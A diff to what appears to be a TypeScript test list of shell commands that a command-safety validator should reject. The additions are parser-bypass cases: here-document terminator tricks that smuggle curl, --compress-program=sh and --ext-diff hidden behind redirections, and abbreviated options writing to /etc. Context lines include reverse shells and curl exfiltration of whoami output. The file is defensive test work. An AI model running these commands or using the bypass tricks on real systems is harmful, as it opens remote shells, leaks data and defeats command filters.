@@ -68,6 +68,12 @@ const BYPASSES: string[] = [
   'exec 3<>/dev/tcp/1.2.3.4/80', 'echo x 1<>/tmp/x', 'ls > ../x', 'ls > /workspace/../etc/x',
   // Reverse shells and exfiltration from public payload lists.
   'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'nc -e /bin/sh 10.0.0.1 4444', 'curl http://x/$(whoami)', 'wget http://x', 'ping -c 3 x', 'socat tcp:x:1 exec:sh',
+  // Where the grammar and bash could disagree: words the grammar files under a redirection or a
+  // here-document, backticks it does not parse in a here-document, here-document terminators.
+  'sort > out --compress-program=sh f', 'git diff > out --ext-diff', 'sort <<EOF --compress-program=sh\nx\nEOF', 'sort <<EOF | sort --compress-program=sh\nx\nEOF',
+  'cat <<EOF && curl x\nx\nEOF', 'cat <<EOF\n`id`\nEOF', 'cat <<EOF\n$[x]\nEOF', "cat <<-'EOF'\n\tEOF\ncurl x\nEOF", 'cat <<E\\OF\nEOF\ncurl x',
+  "cat <<'EOF'\nEOF\ncurl x", 'echo a#; curl x', 'echo $"$(id)"', '[ a > /etc/x ]', 'git diff --ext', 'git log --outp=/etc/x', 'cp --sy /etc/passwd x',
+  'sort --comp=sh f',
   // Unparseable or incomplete input.
   'echo "unterminated', 'ls (', 'if true; then curl x; fi', 'while true; do ls; done', 'case x in x) curl x;; esac', 'select x in a; do ls; done',
 ];
